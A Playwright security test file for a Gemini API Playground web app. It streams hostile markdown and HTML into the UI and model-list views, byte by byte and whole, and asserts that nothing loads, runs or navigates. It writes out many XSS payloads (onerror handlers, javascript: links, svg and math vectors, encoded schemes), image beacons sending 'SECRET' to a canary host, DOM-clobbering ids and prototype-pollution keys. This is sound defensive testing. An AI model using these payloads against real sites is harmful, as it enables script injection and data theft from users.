/** Hostile words: in answers as they grow byte by byte, in names of models, in errors, in everything a server can say. */
import { payloads } from '../src/ui/markdown/payloads.ts'
import { expect, look, response, test } from './faults/judge.ts'
import { chunk, errorBody, event, http } from './faults/wire.ts'
import type { Page } from '@playwright/test'
import type { Fault, FaultServer } from './faults/server.ts'

// A trace takes a picture of the page at every step: most of the time of a suite this long.
test.use({ trace: 'off' })
test.setTimeout(120_000)

/** Tags that load, run or submit by themselves; the app's own drawings are hidden from readers. */
const forbidden =
  'img, picture, script, iframe, object, embed, video, audio, link, meta, base, form, style, svg:not([aria-hidden])'

/** The given ones, aimed at the canary, and some more of their kind. */
function aimed({ canary }: FaultServer): string[] {
  const host = new URL(canary).host
  const more = [
    `![x](${canary}/g17.png?q=SECRET)`,
    `![x][r]\n\n[r]: ${canary}/g18.png\n\n<${canary}/auto> ${canary}/bare www.${host}`,
    `<img/src="${canary}/1"/onerror=alert(1)>`,
    `<input type=image src=${canary}/2><isindex action=javascript:alert(1)>`,
    `<a href="${canary}/3" ping="${canary}/4" autofocus onfocus=alert(1) tabindex=1>x</a>`,
    `<link rel=dns-prefetch href=${canary}><link rel=prefetch href=${canary}/5>`,
    `<svg><script>alert(1)</script><animate onbegin=alert(1) attributeName=x dur=1s>`,
    `<math href="javascript:alert(1)">CLICK</math>`,
    `[a]: ${canary}/6 "t"\n\n![a] ![][a] [![a]][a]`,
    `![x](${canary}/7\n"multi\nline")`,
    `<div style="background-image:image-set('${canary}/8' 1x)">`,
    `[x](JaVaScRiPt:alert(1)) [y](&#x6A;avascript&#58;alert(1)) [z](%6Aavascript:alert(1))`,
    `[x](\`javascript:alert(1)\`) <vbscript:x> [w](feed:javascript:alert(1))`,
    `| ![a](${canary}/9) |\n|---|\n| <img src=${canary}/10> |`,
    `$\\unicode{<img src=${canary}/11>}$ $\\url{javascript:alert(1)}$`,
    `\u202E![x](${canary}/12)\u202C`,
  ]
  return [
    ...payloads.map((one) =>
      one.replaceAll('https://evil.test', canary).replaceAll('//evil.test', `//${host}`),
    ),
    ...more,
  ]
}

/** The texts one below the other, in events of one to three characters. */
const inBits =
  (texts: readonly string[]): Fault =>
  async (wire) => {
    const all = texts.join('\n\n\n')
    let bits = ''
    for (let at = 0, turn = 0; at < all.length; turn++) {
      const size = 1 + (turn % 3)
      bits += event(chunk(all.slice(at, at + size)))
      at += size
      // Several events a write: the page draws between writes, and some of them end inside a payload.
      if (turn % 16 === 0) {
        await wire.write(bits)
        bits = ''
      }
    }
    wire.end(bits + event(chunk('\n\nend', 'STOP')))
  }

/** Every state of the page is looked at, not only the last: what fires once has fired. */
async function watchTags(page: Page): Promise<() => Promise<string[]>> {
  await page.evaluate((tags) => {
    const tagsSeen: string[] = []
    Object.assign(globalThis, { tagsSeen })
    new MutationObserver(() => {
      for (const one of document.querySelectorAll('.md'))
        for (const element of one.querySelectorAll(tags)) tagsSeen.push(element.outerHTML.slice(0, 200))
    }).observe(document.body, { subtree: true, childList: true, attributes: true })
  }, forbidden)
  return () => page.evaluate(() => (globalThis as unknown as { tagsSeen: string[] }).tagsSeen)
}

test('G17-G20: every payload in bits and whole loads nothing, runs nothing, leads nowhere', async ({
  page,
  judge,
}) => {
  const { server } = judge
  const texts = aimed(server)
  const seen = await watchTags(page)
  const dead: string[] = []
  for (let at = 0; at < texts.length; at += 12) {
    const some = texts.slice(at, at + 12)
    for (const generate of [inBits(some), http(200, chunk(some.join('\n\n\n'), 'STOP'))] as Fault[]) {
      await judge.serve('hostile', { generate })
      const { note } = await judge.run('hostile')
      expect(note).toBeNull()
      const links = await response(page)
        .locator('.md a')
        .evaluateAll((all) => all.map((one) => one.getAttribute('href') ?? ''))
      dead.push(...links.filter((href) => !/^(?:https?:\/\/|mailto:|#)/.test(href)))
    }
  }
  expect(await seen()).toEqual([])
  expect(dead).toEqual([])
  expect(server.leaks).toEqual([])
  expect(await page.title()).toBe('Prompt · Gemini API Playground')
  console.log(`faults: ${texts.length} payloads, in bits and whole, 0 requests`)
})

const markup = (canary: string) =>
  `<img src=${canary}/x onerror=alert(1)><script>alert(1)</script>![x](${canary}/y)`

test('hostile names, versions, reasons and errors are words', async ({ page, judge }) => {
  const { server } = judge
  const evil = markup(server.canary)
  const model = {
    name: `models/${evil}`,
    displayName: evil,
    description: `${evil} ${'long '.repeat(20_000)}`,
    version: evil,
    supportedGenerationMethods: ['generateContent', evil],
  }
  const models = [
    model,
    { name: 'models/__proto__', displayName: '\u202Eevil' },
    {
      name: 'models/odd',
      displayName: {},
      inputTokenLimit: 'many',
      supportedGenerationMethods: 'all',
      topK: [],
    },
    { name: `models/${'n'.repeat(5000)}` },
    { name: 'models/constructor', supportedGenerationMethods: [null, 7] },
    null,
    7,
    { name: 7 },
  ]
  const call = {
    functionCall: { name: evil, args: { [evil]: evil, ['__proto__']: 1 } },
  }
  await judge.serve('names', {
    read: ({ call: { path }, head, end }) => {
      head(200)
      end(JSON.stringify(path.includes(':countTokens') ? { totalTokens: evil } : { models }))
    },
    generate: (wire, turn) =>
      turn === 0
        ? wire.end(
            event({
              candidates: [
                {
                  content: {
                    parts: [
                      { text: evil },
                      call,
                      { [evil]: evil },
                      { executableCode: { code: evil, language: evil } },
                      { codeExecutionResult: { outcome: evil, output: evil } },
                    ],
                  },
                  finishReason: evil,
                  finishMessage: evil,
                  safetyRatings: [{ category: evil, probability: evil }],
                  citationMetadata: {
                    citationSources: [{ uri: `javascript:alert(1)//${evil}`, title: evil, license: evil }],
                  },
                  groundingMetadata: {
                    groundingChunks: [{ web: { uri: evil, title: evil } }],
                    webSearchQueries: [evil],
                    searchEntryPoint: { renderedContent: evil },
                  },
                },
              ],
              modelVersion: evil,
              responseId: evil,
              promptFeedback: { blockReason: evil },
            }),
          )
        : http(
            400,
            errorBody(400, evil, evil, [
              { '@type': 'x.ErrorInfo', reason: evil, metadata: { a: evil } },
              { '@type': 'x.BadRequest', fieldViolations: [{ field: evil, description: evil }] },
            ]),
          )(wire, turn),
  })
  const answer = await judge.run('names')
  expect(answer.all).toContain('<img src=')
  expect(answer.active).toEqual([])
  for (const tab of ['Request', 'Response', 'Stream', 'Code']) {
    if (tab === 'Request') await page.getByRole('button', { name: 'Open in Inspector' }).click()
    await page.getByRole('tab', { name: tab, exact: true }).click()
  }
  await page.getByRole('button', { name: 'Inspector', exact: true }).click()
  const refused = await judge.run('names')
  expect(refused.alert).toContain('<img src=')
  expect(refused.active).toEqual([])
  await page.goto('/#/models')
  await expect(page.getByRole('table', { name: 'Models' })).toContainText('<img src=')
  await page.getByRole('table', { name: 'Models' }).getByRole('button', { name: 'Details' }).first().click()
  await expect(page.getByRole('dialog')).toContainText('<script>alert(1)')
  await page.keyboard.press('Escape')
  await page.goto('/#/prompt')
  const box = page.getByRole('combobox', { name: 'Model', exact: true })
  await box.click()
  await expect(page.getByRole('option').first()).toBeVisible()
  await page.keyboard.press('Escape')
  expect(await page.evaluate(() => 'polluted' in {})).toBe(false)
  expect(await page.locator('script:not([src]), iframe, [onerror], [onload]').count()).toBe(0)
  expect((await look(page)).active).toEqual([])
})

test('names that a page could confuse with its own do not take it over', async ({ page, judge }) => {
  const names = ['root', 'location', 'document', 'body', 'getElementById', '__proto__']
  await judge.serve('clobber', {
    generate: (wire) =>
      wire.end(
        event(
          chunk(
            names
              .map((one) => `# ${one}\n\n<a id="${one}" name="${one}">x</a> [^${one}]\n\n[^${one}]: x`)
              .join('\n\n'),
            'STOP',
          ),
        ),
      ),
  })
  await judge.run('clobber')
  expect(await response(page).locator('#root, [name=location], #body').count()).toBe(0)
  expect((await judge.run('clobber')).note).toBeNull()
})
